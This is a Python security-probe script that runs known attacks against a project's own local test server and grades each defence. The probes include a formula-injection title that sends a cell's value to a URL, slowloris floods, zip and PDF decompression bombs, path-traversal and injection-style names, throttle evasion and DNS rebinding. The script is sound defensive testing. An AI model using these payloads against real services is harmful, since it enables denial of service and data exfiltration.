"""The attacks and faults of issues 20 and 34, re-run against a real ``colmeia serve`` on
127.0.0.1 (the simulated model; a second server whose model is down). Each probe says what it
tried, what came back and a verdict: ``ok`` (refused or handled as documented), ``weak`` (a
known limit, explained in docs/service.md), ``vulnerable`` or ``broken``.

Prints a table, then ONE JSON line: ``{"probes": n, "ok": …, "weak": …, "vulnerable": …,
"broken": …, "failures": [...]}``. Asserts nothing about time; loopback only.

    .venv/bin/python bench/probes.py
    .venv/bin/python bench/probes.py --job-at-the-limit   # RSS over a job at the limits (slow)
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import io
import json
import re
import socket
import sqlite3
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import psutil

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))

from colmeia.service.db import open_database  # noqa: E402
from colmeia.service.keys import create_key  # noqa: E402
from serve_process import ServerProcess, free_port, start_server, stop_server  # noqa: E402
from zipbombs import bomb_docx  # noqa: E402

Verdict = tuple[str, str]  # (ok|weak|vulnerable|broken, what was seen)
RESULTS: list[tuple[str, str, str, str]] = []
HOSTILE_TITLE = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"clique")'


def probe(kind: str) -> Callable[[Callable[..., Verdict]], Callable[..., None]]:
    def wrap(fn: Callable[..., Verdict]) -> Callable[..., None]:
        def run(*args: Any) -> None:
            try:
                verdict, seen = fn(*args)
            except Exception as exc:  # a probe that crashes is a broken service or probe
                verdict, seen = "broken", f"{type(exc).__name__}: {exc}"[:200]
            RESULTS.append((kind, fn.__name__.removeprefix("probe_"), verdict, seen))
            print(f"{verdict:10} {kind:10} {fn.__name__[6:]:42} {seen[:110]}", flush=True)

        return run

    return wrap


class Ctx:
    def __init__(self, srv: ServerProcess, keys: dict[str, str]) -> None:
        self.srv, self.url, self.keys = srv, srv.url, keys

    def h(self, who: str = "ana") -> dict[str, str]:
        return {"X-API-Key": self.keys[who]}

    def wait(self, job: str, who: str = "ana", timeout: float = 180) -> dict[str, Any]:
        end = time.monotonic() + timeout
        while True:
            j = httpx.get(f"{self.url}/v1/jobs/{job}", headers=self.h(who), timeout=30).json()
            if j["status"] not in ("queued", "running") or time.monotonic() > end:
                return dict(j)
            time.sleep(0.3)


def _raw(port: int, data: bytes, wait: float = 5.0) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=wait) as s:
        s.sendall(data)
        return s.recv(65536).decode("latin-1")


# -- headers, docs, CSRF ----------------------------------------------------------------------


@probe("headers")
def probe_security_headers(c: Ctx) -> Verdict:
    r = httpx.get(f"{c.url}/ui/login")
    need = ("content-security-policy", "x-content-type-options", "x-frame-options")
    missing = [n for n in need if n not in r.headers]
    return ("vulnerable", f"missing {missing}") if missing else ("ok", "CSP, nosniff, DENY")


@probe("docs")
def probe_offline_docs(c: Ctx) -> Verdict:
    page = httpx.get(f"{c.url}/docs").text + httpx.get(f"{c.url}/redoc").text
    remote = re.findall(r'(?:src|href)="(https?://[^"]+)"', page)
    return ("weak", f"remote assets {remote}") if remote else ("ok", "no remote asset")


@probe("csrf")
def probe_sign_in_without_the_form(c: Ctx) -> Verdict:
    r = httpx.post(
        f"{c.url}/ui/login", data={"key": c.keys["ana"]}, headers={"Origin": "http://evil.test"}
    )
    return ("vulnerable", "signed in") if r.status_code == 303 else ("ok", f"{r.status_code}")


# -- credentials, throttle, addresses ------------------------------------------------------------


@probe("auth")
def probe_anonymous_body_refused_first(c: Ctx) -> Verdict:
    head = (
        "POST /v1/collections/leis/documents HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 150000000\r\n\r\n"
    )
    answer = _raw(c.srv.port, head.encode())
    refused = " 401 " in answer[:20] or " 413 " in answer[:20]
    return ("ok", f"{answer[9:12]} before the body") if refused else ("weak", answer[:40])


@probe("bodies")
def probe_declared_length_over_the_limit(c: Ctx) -> Verdict:
    head = (
        "POST /v1/collections/leis/documents HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"X-API-Key: {c.keys['ana']}\r\nContent-Type: multipart/form-data; boundary=x\r\n"
        "Content-Length: 157286400\r\n\r\n"
    )
    answer = _raw(c.srv.port, head.encode())
    return ("ok", "413 before the body") if " 413 " in answer[:20] else ("weak", answer[:60])


@probe("bodies")
def probe_one_big_file_refused_while_sent(c: Ctx) -> Verdict:
    sent = 0

    def body() -> Iterator[bytes]:
        nonlocal sent
        yield b'--b\r\nContent-Disposition: form-data; name="files"; filename="big.txt"\r\n\r\n'
        for _ in range(45):  # 45 MB in one file, under the 50 MB request limit
            sent += 1 << 20
            yield b"x" * (1 << 20)
        yield b"\r\n--b--\r\n"

    try:
        r = httpx.post(
            f"{c.url}/v1/collections/leis/documents",
            content=body(),
            headers={**c.h(), "Content-Type": "multipart/form-data; boundary=b"},
            timeout=60,
        )
        status = r.status_code
    except httpx.HTTPError:
        status = 413  # the server answered and closed while the client was still sending
    mb = sent >> 20
    if status == 413 and mb < 40:
        return "ok", f"413 after {mb} MB sent of 45 (file limit 25 MB)"
    return "weak", f"{status} after {mb} MB"


@probe("throttle")
def probe_forwarded_for_rotation(c: Ctx) -> Verdict:
    t = httpx.HTTPTransport(local_address="127.0.0.3")
    with httpx.Client(transport=t) as cl:
        codes = [
            cl.get(
                f"{c.url}/v1/me",
                headers={"X-API-Key": f"cmk_bad{i}", "X-Forwarded-For": f"10.9.{i}.1"},
            ).status_code
            for i in range(40)
        ]
    n401 = codes.count(401)
    return (
        ("ok", f"{n401}×401 then 429")
        if n401 <= 20 and 429 in codes
        else (
            "vulnerable",
            f"{n401}×401, no throttle",
        )
    )


@probe("throttle")
def probe_audit_rows_under_rotation(c: Ctx) -> Verdict:
    """The issue's 300 bad keys, each with another X-Forwarded-For: one address, one row."""
    t = httpx.HTTPTransport(local_address="127.0.0.5")
    with httpx.Client(transport=t) as cl:
        codes = [
            cl.get(
                f"{c.url}/v1/me",
                headers={"X-API-Key": f"cmk_audit{i}", "X-Forwarded-For": f"10.8.{i % 250}.{i}"},
            ).status_code
            for i in range(300)
        ]
    db = sqlite3.connect(c.srv.home / "service.db")
    try:
        rows = db.execute(
            "SELECT detail FROM audit_log WHERE detail LIKE '%127.0.0.5%' OR detail LIKE '%10.8.%'"
        ).fetchall()
    finally:
        db.close()
    rotated = sum(1 for (d,) in rows if "10.8." in d)
    seen = f"{codes.count(401)}×401, {codes.count(429)}×429; {len(rows)} audit rows ({rotated} rotated)"
    return ("ok", seen) if len(rows) <= 2 and rotated == 0 and 429 in codes else ("weak", seen)


@probe("throttle")
def probe_concurrent_bad_keys(c: Ctx) -> Verdict:
    t = httpx.HTTPTransport(local_address="127.0.0.4")
    limits = httpx.Limits(max_connections=150)
    with (
        httpx.Client(transport=t, limits=limits) as cl,
        concurrent.futures.ThreadPoolExecutor(50) as pool,
    ):
        codes = list(
            pool.map(
                lambda i: (
                    cl.get(f"{c.url}/v1/me", headers={"X-API-Key": f"cmk_race{i}"}).status_code
                ),
                range(150),
            )
        )
    n401 = codes.count(401)
    return (
        ("ok", f"{n401} answered of 150 (limit 20)")
        if n401 <= 20
        else (
            "weak",
            f"{n401} tries for a limit of 20",
        )
    )


# -- slow clients ---------------------------------------------------------------------------


@probe("slow")
def probe_slowloris_headers(c: Ctx) -> Verdict:
    socks = []
    for _ in range(150):
        s = socket.create_connection(("127.0.0.1", c.srv.port), timeout=5)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        socks.append(s)
    open_after = 0
    time.sleep(1.0)
    for s in socks:
        with contextlib.suppress(OSError):
            s.sendall(b"X-a: b\r\n")  # a byte now and then
    time.sleep(4.0)  # past the 3 s header timeout of this server
    for s in socks:
        try:
            s.settimeout(0.2)
            s.sendall(b"X-b: c\r\n")
            if s.recv(1) == b"":
                continue
            open_after += 1
        except (TimeoutError, OSError):
            # no answer and no close: still held open, unless the send failed (closed)
            open_after += 1 if _alive(s) else 0
        finally:
            s.close()
    return (
        ("ok", f"150 held → {open_after} open after 5 s")
        if open_after == 0
        else (
            "weak",
            f"{open_after} of 150 still open after 5 s",
        )
    )


def _alive(s: socket.socket) -> bool:
    try:
        s.setblocking(False)
        return s.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


@probe("slow")
def probe_slow_body(c: Ctx) -> Verdict:
    head = (
        f"POST /v1/search HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-Key: {c.keys['ana']}\r\n"
        'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"query"'
    )
    t0 = time.monotonic()
    answer = _raw(c.srv.port, head.encode(), wait=15)
    took = time.monotonic() - t0
    if " 408 " in answer[:20]:
        return "ok", f"408 after {took:.1f} s (body timeout 3 s)"
    return "weak", f"{answer[:30]!r} after {took:.1f} s"


# -- text at the boundary ------------------------------------------------------------------


@probe("text")
def probe_lone_surrogates(c: Ctx) -> Verdict:
    h = {**c.h(), "content-type": "application/json"}
    thread = httpx.post(f"{c.url}/v1/assistant/threads", json={}, headers=c.h()).json()["id"]
    routes = {
        "/v1/search": "query",
        "/v1/ask": "question",
        "/v1/assistant/threads": "title",
        f"/v1/assistant/threads/{thread}/messages": "text",
        "/v1/agents/run": "task",
    }
    bad = {}
    for path, field in routes.items():
        r = httpx.post(f"{c.url}{path}", content=f'{{"{field}": "a\\ud800"}}', headers=h)
        if r.status_code != 422 or field not in r.text:
            bad[path] = r.status_code
    return ("broken", f"{bad}") if bad else ("ok", "5 routes: 422 naming the field")


@probe("text")
def probe_nul_and_huge_query(c: Ctx) -> Verdict:
    nul = httpx.post(f"{c.url}/v1/search", json={"query": "a\0b"}, headers=c.h())
    big = httpx.post(f"{c.url}/v1/search", json={"query": "prazo " * 200_000}, headers=c.h())
    if nul.status_code == 422 and big.status_code == 422 and len(big.content) < 2000:
        return "ok", f"NUL 422; 1.2 MB query 422 in {len(big.content)} bytes"
    return "weak", f"NUL {nul.status_code}; big {big.status_code} {len(big.content)} bytes"


# -- jobs --------------------------------------------------------------------------------------


def _records(n: int) -> bytes:
    return json.dumps(
        [{"id": i, "question": "Tem garantia?", "answer": "Sim, um ano."} for i in range(n)]
    ).encode()


@probe("jobs")
def probe_400k_record_batch(c: Ctx) -> Verdict:
    proc = psutil.Process(c.srv.process.pid)
    before = proc.memory_info().rss
    # 400,000 short records: 19 MB, under the 25 MB file limit (the file)
    data = json.dumps(
        [{"id": i, "question": "Tem garantia?", "answer": "Sim."} for i in range(400_000)]
    ).encode()
    r = httpx.post(
        f"{c.url}/v1/moderation/jobs",
        files=[("files", ("lote.json", data, "application/json"))],
        headers=c.h(),
        timeout=120,
    )
    time.sleep(1)
    after = proc.memory_info().rss
    grew = (after - before) >> 20
    seen = f"{r.status_code} for {len(data) >> 20} MB / 400k records; RSS +{grew} MB"
    if r.status_code == 413 and "MAX_JOB_RECORDS" in r.text and grew < 150:
        return "ok", seen
    return "vulnerable", seen


@probe("jobs")
def probe_empty_batch(c: Ctx) -> Verdict:
    r = httpx.post(
        f"{c.url}/v1/moderation/jobs", files=[("files", ("v.json", b"[]", "x"))], headers=c.h()
    )
    return ("ok", "422 no record") if r.status_code == 422 else ("weak", f"{r.status_code}")


@probe("jobs")
def probe_results_without_server_paths(c: Ctx) -> Verdict:
    r = httpx.post(
        f"{c.url}/v1/moderation/jobs",
        files=[("files", ("lote.json", _records(3), "x"))],
        headers=c.h(),
    )
    job = c.wait(r.json()["id"])
    res = httpx.get(f"{c.url}/v1/moderation/jobs/{job['id']}/results", headers=c.h()).text
    lines = httpx.get(f"{c.url}/v1/moderation/jobs/{job['id']}/results.jsonl", headers=c.h()).text
    home = str(c.srv.home)
    if home in res or home in lines or home in json.dumps(job):
        return "weak", "server paths in results"
    return "ok", f"{job['status']}; sources like input/lote.json[0]"


@probe("jobs")
def probe_csv_rows(c: Ctx) -> Verdict:
    # the 600,000 rows (it failed with MemoryError at 2.7 GB after 74 s)
    rows = "title,text\n" + "".join(f"t{i},x\n" for i in range(600_000))
    r = httpx.post(
        f"{c.url}/v1/collections/rows/documents",
        files=[("files", ("big.csv", rows.encode(), "text/csv"))],
        headers=c.h(),
        timeout=60,
    )
    named = r.status_code == 413 and "MAX_CSV_ROWS" in r.text
    return ("ok", "600k rows: 413 naming MAX_CSV_ROWS") if named else ("weak", f"{r.status_code}")


@probe("jobs")
def probe_zip_bomb_and_pdf_bomb(c: Ctx) -> Verdict:
    tmp = Path(tempfile.mkdtemp())
    docx = bomb_docx(tmp / "bomba.docx", 800)
    packed = zlib.compress(b"\0" * (600 << 20), 9)
    pdf = (
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        + f"3 0 obj\n<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode()
        + packed
        + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    files = [
        ("files", ("bomba.docx", docx.read_bytes(), "x")),
        ("files", ("bomba.pdf", pdf, "application/pdf")),
        ("files", ("lei.txt", b"Art. 1 Esta lei dispoe sobre o acesso.\n", "text/plain")),
    ]
    r = httpx.post(f"{c.url}/v1/collections/bombas/documents", files=files, headers=c.h())
    job = c.wait(r.json()["id"])
    errors = " ".join(e["reason"] for e in job["result"]["errors"])
    ok = "zip bomb" in errors and "inflate to over" in errors and job["status"] == "partial"
    seen = f"{job['status']}, pdf {len(pdf) >> 10} KB → 600 MB refused; {errors[:60]}"
    return ("ok", seen) if ok else ("vulnerable", seen)


@probe("jobs")
def probe_million_paragraph_html(c: Ctx) -> Verdict:
    """The issue's page of 1,000,000 paragraphs left +290 MB in the main process."""
    proc = psutil.Process(c.srv.process.pid)
    before = proc.memory_info().rss
    html = b"<html><body>" + b"<p>Art. 1 x.</p>" * 1_000_000 + b"</body></html>"
    r = httpx.post(
        f"{c.url}/v1/collections/paginas/documents",
        files=[("files", ("mil.html", html, "text/html"))],
        headers=c.h(),
        timeout=120,
    )
    job = c.wait(r.json()["id"], timeout=600) if r.status_code == 202 else {"status": r.status_code}
    time.sleep(1)
    grew = (proc.memory_info().rss - before) >> 20
    why = ((job.get("result") or {}).get("errors") or [{}])[0].get("reason") or job.get("error")
    seen = f"{len(html) >> 20} MB page: {job['status']} ({why}); main process RSS +{grew} MB"
    return ("ok", seen) if grew < 150 and job["status"] != "running" else ("weak", seen)


@probe("names")
def probe_bad_names(c: Ctx) -> Verdict:
    names = ["../x", "a/b", "..", ".oculta", "x" * 300, "leis;DROP", "leis\u202e", "C:\\x"]
    codes = {
        n[:12]: httpx.post(f"{c.url}/v1/collections", json={"name": n}, headers=c.h()).status_code
        for n in names
    }
    t = httpx.post(f"{c.url}/v1/assistant/threads", json={"collection": "leis;DROP"}, headers=c.h())
    bad = {n: code for n, code in codes.items() if code != 422}
    if not bad and t.status_code == 422:
        return "ok", f"422 for {len(names)} names (../x, a/b, …) and a thread's leis;DROP"
    return "weak", f"{bad} thread {t.status_code}"


# -- exports, roles, quotas, UI ------------------------------------------------------------------


def _library(c: Ctx, collection: str) -> dict[str, Any]:
    ris = (
        f"TY  - THES\nTI  - {HOSTILE_TITLE}\nAU  - Silva, Ana\nPY  - 2020\n"
        "AB  - Educação inclusiva na formação de professores.\nER  - \n\n"
    )
    r = httpx.post(
        f"{c.url}/v1/collections/{collection}/library",
        files=[("files", ("refs.ris", ris.encode(), "x"))],
        headers=c.h(),
    )
    return c.wait(r.json()["id"])


@probe("exports")
def probe_formula_in_review_exports(c: Ctx) -> Verdict:
    _library(c, "teses")
    r = httpx.post(
        f"{c.url}/v1/reviews",
        json={"question": "educação inclusiva", "collection": "teses", "top": 1},
        headers=c.h(),
    )
    review = c.wait(r.json()["id"])["id"]
    csv_text = httpx.get(f"{c.url}/v1/reviews/{review}/export?format=csv", headers=c.h()).text
    xlsx = httpx.get(f"{c.url}/v1/reviews/{review}/export?format=xlsx", headers=c.h()).content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        formula = any(b"<f>" in z.read(n) for n in z.namelist() if "worksheets" in n)
    live_csv = any(line.split(",")[2:3] == ['"=HYPERLINK(""http'] for line in csv_text.splitlines())
    if formula or live_csv or ",=HYPERLINK" in csv_text or '"=HYPERLINK' in csv_text:
        return "vulnerable", "a live formula in the export"
    return "ok", "CSV cell '=HYPERLINK… as text; XLSX string cell"


@probe("roles")
def probe_member_acts_on_another_members_things(c: Ctx) -> Verdict:
    r = httpx.post(
        f"{c.url}/v1/moderation/jobs",
        files=[("files", ("l.json", _records(200), "x"))],
        data={"concurrency": "1"},
        headers=c.h("ana"),
    )
    job = r.json()["id"]
    cancel = httpx.post(f"{c.url}/v1/jobs/{job}/cancel", headers=c.h("bia")).status_code
    thread = httpx.post(
        f"{c.url}/v1/assistant/threads", json={"title": "só da Ana"}, headers=c.h("ana")
    )
    ui = httpx.Client(base_url=c.url)
    form = ui.get("/ui/login").text
    token = re.search(r'name="csrf" value="([^"]+)"', form)
    assert token
    ui.post("/ui/login", data={"key": c.keys["bia"], "csrf": token.group(1)})
    shown = "só da Ana" in ui.get("/ui/chat").text
    httpx.post(f"{c.url}/v1/jobs/{job}/cancel", headers=c.h("admin"))
    ok = cancel == 403 and not shown and thread.status_code == 201
    return (
        ("ok", "403 on another's job; UI lists own threads")
        if ok
        else (
            "weak",
            f"cancel {cancel}, ui shows other thread: {shown}",
        )
    )


@probe("roles")
def probe_member_screens_another_members_review(c: Ctx) -> Verdict:
    _library(c, "teses2")
    r = httpx.post(
        f"{c.url}/v1/reviews",
        json={"question": "educação inclusiva", "collection": "teses2", "top": 1},
        headers=c.h("ana"),
    )
    review = c.wait(r.json()["id"])["id"]
    body = {"work": "1", "decision": "exclude", "reason": "fora do tema"}
    bia = httpx.post(f"{c.url}/v1/reviews/{review}/screening", json=body, headers=c.h("bia"))
    ana = httpx.post(f"{c.url}/v1/reviews/{review}/screening", json=body, headers=c.h("ana"))
    seen = f"bia {bia.status_code}, ana {ana.status_code}"
    return (
        ("ok", seen) if bia.status_code in (403, 404) and ana.status_code < 300 else ("weak", seen)
    )


@probe("quota")
def probe_quota_left_below_a_hold(c: Ctx) -> Verdict:
    h = {"X-API-Key": c.keys["quota"]}
    seen = []
    for _ in range(4):
        r = httpx.post(
            f"{c.url}/v1/ask",
            json={"question": "Quando a lei entra em vigor?"},
            headers=h,
            timeout=60,
        )
        seen.append(r.status_code)
    refusals = [s for s in seen if s == 429]
    if not refusals:
        return "ok", f"{seen}"
    r = httpx.post(f"{c.url}/v1/ask", json={"question": "prazo"}, headers=h)
    detail = r.json().get("detail", "")
    told = "left" in detail and ("REQUEST_TOKEN_RESERVE" in detail or "renews" in detail)
    return ("ok", f"{seen}; 429 says {detail[:50]}…") if told else ("weak", detail[:80])


@probe("ui")
def probe_htmx_rate_limit(c: Ctx) -> Verdict:
    ui = httpx.Client(base_url=c.url)
    token = re.search(r'name="csrf" value="([^"]+)"', ui.get("/ui/login").text)
    assert token
    ui.post("/ui/login", data={"key": c.keys["slow"], "csrf": token.group(1)})
    last = None
    for _ in range(4):
        last = ui.get("/ui/collections", headers={"HX-Request": "true"})
    assert last is not None
    html = last.headers.get("content-type", "").startswith("text/html")
    if last.status_code == 429 and html and 'role="alert"' in last.text:
        return "ok", "429 as an HTML fragment htmx swaps in"
    return "weak", f"{last.status_code} {last.headers.get('content-type')}"


@probe("files")
def probe_delete_collection_files(c: Ctx) -> Verdict:
    job = _library(c, "apagar")
    folder = c.srv.home / "tenants" / "acme" / "library" / job["id"]
    httpx.delete(f"{c.url}/v1/collections/apagar", headers=c.h())
    return ("weak", "library inputs left") if folder.exists() else ("ok", "inputs removed")


@probe("fetch")
def probe_fetch_pinned_to_the_checked_address(c: Ctx) -> Verdict:
    """DNS rebinding: the name first resolves to 127.0.0.1 (allowed here), then to an address
    nothing answers at. A fetch that resolves again connects there and fails."""
    import http.server
    import threading

    from colmeia.apps.literature.fulltext import FetchLimits, fetch_full_texts
    from colmeia.apps.literature.records import Record

    pdf = b"%PDF-1.4\n%%EOF\n"

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "application/pdf")
            self.send_header("Content-Length", str(len(pdf)))
            self.end_headers()
            self.wfile.write(pdf)

        def log_message(self, *args: Any) -> None:
            pass

    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    real = socket.getaddrinfo
    answers: list[str] = []

    def rebinding(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if host == "rebind.test":
            answers.append(host)
            # the first answer passes the check; any later one points where nothing answers
            return real("127.0.0.1" if len(answers) == 1 else "10.255.255.1", port, *args, **kwargs)
        return real(host, port, *args, **kwargs)

    socket.getaddrinfo = rebinding
    try:
        port = site.server_address[1]
        record = Record(title="Tese", links=[f"http://rebind.test:{port}/tese.pdf"])
        with tempfile.TemporaryDirectory() as tmp:
            [outcome] = fetch_full_texts(
                [record],
                Path(tmp),
                limits=FetchLimits(max_bytes=1_000_000, timeout=30, host_delay=0.0),
                allow_private=True,
            )
    finally:
        socket.getaddrinfo = real
        site.shutdown()
    seen = f"{outcome.outcome}; the name resolved {len(answers)}×"
    return ("ok", seen) if outcome.outcome == "fetched" and len(answers) == 1 else ("weak", seen)


# -- the model down: no internals ---------------------------------------------------------------


@probe("leaks")
def probe_model_down_shows_no_internals(c: Ctx, dead: Ctx) -> Verdict:
    body = {"task": "quanto é 2+2?", "max_steps": 2}
    plain = httpx.post(f"{dead.url}/v1/agents/run", json=body, headers=dead.h(), timeout=60)
    sse = httpx.post(
        f"{dead.url}/v1/agents/run",
        json=body,
        headers={**dead.h(), "accept": "text/event-stream"},
        timeout=60,
    )
    r = httpx.post(
        f"{dead.url}/v1/moderation/jobs",
        files=[("files", ("l.json", _records(3), "x"))],
        headers=dead.h(),
    )
    job = json.dumps(dead.wait(r.json()["id"]))
    port = dead.keys["model_port"]
    texts = [plain.text, sse.text, job]
    leaks = [t[:80] for t in texts if port in t or "127.0.0.1" in t or re.search(r"\w+Error\b", t)]
    return ("vulnerable", f"{leaks}") if leaks else ("ok", "JSON, SSE and job: code + message")


def _start_without_model(home: Path, env: dict[str, str]) -> ServerProcess:
    """``colmeia serve`` whose model server is down: /readyz stays 503, so wait for /healthz."""
    import os
    import subprocess

    port = free_port()
    clean = {k: v for k, v in os.environ.items() if not k.startswith("COLMEIA_")}
    clean.update(COLMEIA_HOME=str(home), COLMEIA_SERVICE_RATE_LIMIT_PER_MINUTE="1000000", **env)
    home.mkdir(parents=True, exist_ok=True)
    log = home / "server.log"
    with log.open("wb") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "colmeia", "serve", "--port", str(port)],
            env=clean,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    srv = ServerProcess(f"http://127.0.0.1:{port}", home, port, proc, log)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        try:
            if httpx.get(f"{srv.url}/healthz", timeout=2).status_code == 200:
                return srv
        except httpx.HTTPError:
            time.sleep(0.2)
    proc.kill()
    raise RuntimeError("the server without a model did not start: " + srv.log_tail())


def _server(home: Path, env: dict[str, str], simulated: bool = True) -> Ctx:
    srv = start_server(home, env=env) if simulated else _start_without_model(home, env)
    db = open_database(f"sqlite:///{home / 'service.db'}")
    keys = {
        "ana": create_key(db, "acme", "ana")[1],
        "bia": create_key(db, "acme", "bia")[1],
        "admin": create_key(db, "acme", "chefe", role="admin")[1],
        "quota": create_key(db, "acme", "cota", token_quota=500)[1],
        "slow": create_key(db, "acme", "lento", rate_limit=2)[1],
    }
    db.close()
    return Ctx(srv, keys)


def job_at_the_limit(files: int = 8, per_file: int = 2_500, record_bytes: int = 9_500) -> None:
    """``--job-at-the-limit``: the server's RSS over one moderation job at the limits (20,000
    records, 180 MB of the 200 MB request), after a 10-record warm-up job; one JSON line. Takes
    as long as moderating 20,000 records with the simulated model (15–20 min on 2 busy cores)."""
    pad = "x" * (record_bytes - 120)

    def batch(f: int) -> bytes:
        return json.dumps(
            [
                {
                    "id": f"f{f}-{i}",
                    "question": "Tem garantia?",
                    "answer": "Sim, um ano.",
                    "metadata": [{"inference": pad}],  # bookkeeping the agents never see
                }
                for i in range(per_file)
            ]
        ).encode()

    with tempfile.TemporaryDirectory() as tmp:
        c = _server(Path(tmp) / "main", {})
        proc = psutil.Process(c.srv.process.pid)

        def with_children() -> int:
            kids = proc.children(recursive=True)
            return (proc.memory_info().rss + sum(k.memory_info().rss for k in kids)) >> 20

        try:
            warm = httpx.post(
                f"{c.url}/v1/moderation/jobs",
                files=[("files", ("w.json", _records(10), "x"))],
                headers=c.h(),
                timeout=120,
            )
            c.wait(warm.json()["id"], timeout=600)
            base = proc.memory_info().rss >> 20
            data = [("files", (f"l{f}.json", batch(f), "application/json")) for f in range(files)]
            size = sum(len(d[1][1]) for d in data) >> 20
            r = httpx.post(
                f"{c.url}/v1/moderation/jobs",
                files=data,
                data={"concurrency": "16"},
                headers=c.h(),
                timeout=600,
            )
            del data
            job_id = r.json()["id"]
            peak = {"moderating": base, "report": base, "report_with_children": base}
            started = time.monotonic()
            while True:
                job = httpx.get(f"{c.url}/v1/jobs/{job_id}", headers=c.h(), timeout=120).json()
                progress = job.get("progress") or {}
                phase = (
                    "report"
                    if progress.get("total") and progress.get("finished") == progress["total"]
                    else "moderating"
                )
                peak[phase] = max(peak[phase], proc.memory_info().rss >> 20)
                if phase == "report":
                    with contextlib.suppress(psutil.Error):  # a child may end meanwhile
                        peak["report_with_children"] = max(
                            peak["report_with_children"], with_children()
                        )
                if job["status"] not in ("queued", "running"):
                    break
                time.sleep(0.5)
            result = job.get("result") or {}
            print(
                json.dumps(
                    {
                        "bench": "moderation_job_memory",
                        "records": files * per_file,
                        "upload_mb": size,
                        "status": job["status"],
                        "rss_before_mb": base,
                        "rss_peak_moderating_mb": peak["moderating"],
                        "rss_peak_report_mb": peak["report"],
                        "rss_peak_report_with_children_mb": peak["report_with_children"],
                        "rss_after_mb": proc.memory_info().rss >> 20,
                        "wall_s": round(time.monotonic() - started, 1),
                        "written": result.get("written"),
                        "report": result.get("report") or result.get("report_error"),
                    }
                )
            )
        finally:
            stop_server(c.srv)


def main() -> None:
    if "--job-at-the-limit" in sys.argv[1:]:
        job_at_the_limit()
        return
    env = {
        "COLMEIA_SERVICE_MAX_REQUEST_MB": "50",
        "COLMEIA_SERVICE_HEADER_TIMEOUT_S": "3",
        "COLMEIA_SERVICE_BODY_TIMEOUT_S": "3",
        "COLMEIA_INGEST_MEMORY_MB": "600",
    }
    with tempfile.TemporaryDirectory() as tmp:
        model_port = free_port()
        dead = _server(
            Path(tmp) / "dead",
            {
                **env,
                "COLMEIA_LLM_BASE_URL": f"http://127.0.0.1:{model_port}/v1",
                "COLMEIA_LLM_MODEL": "m",
                "COLMEIA_LLM_MAX_RETRIES": "0",
            },
            simulated=False,
        )
        dead.keys["model_port"] = str(model_port)
        try:
            c = _server(Path(tmp) / "main", env)
        except BaseException:
            stop_server(dead.srv)
            raise
        try:
            for p in (
                probe_security_headers,
                probe_offline_docs,
                probe_sign_in_without_the_form,
                probe_anonymous_body_refused_first,
                probe_declared_length_over_the_limit,
                probe_one_big_file_refused_while_sent,
                probe_forwarded_for_rotation,
                probe_audit_rows_under_rotation,
                probe_concurrent_bad_keys,
                probe_slowloris_headers,
                probe_slow_body,
                probe_lone_surrogates,
                probe_nul_and_huge_query,
                probe_400k_record_batch,
                probe_empty_batch,
                probe_results_without_server_paths,
                probe_csv_rows,
                probe_zip_bomb_and_pdf_bomb,
                probe_million_paragraph_html,
                probe_bad_names,
                probe_formula_in_review_exports,
                probe_member_acts_on_another_members_things,
                probe_member_screens_another_members_review,
                probe_quota_left_below_a_hold,
                probe_htmx_rate_limit,
                probe_delete_collection_files,
                probe_fetch_pinned_to_the_checked_address,
            ):
                p(c)
            probe_model_down_shows_no_internals(c, dead)
        finally:
            stop_server(c.srv)
            stop_server(dead.srv)
    counts = {
        v: sum(1 for r in RESULTS if r[2] == v) for v in ("ok", "weak", "vulnerable", "broken")
    }
    failures = [f"{k}/{n}: {s}" for k, n, v, s in RESULTS if v != "ok"]
    print(json.dumps({"bench": "probes", "probes": len(RESULTS), **counts, "failures": failures}))


if __name__ == "__main__":
    main()
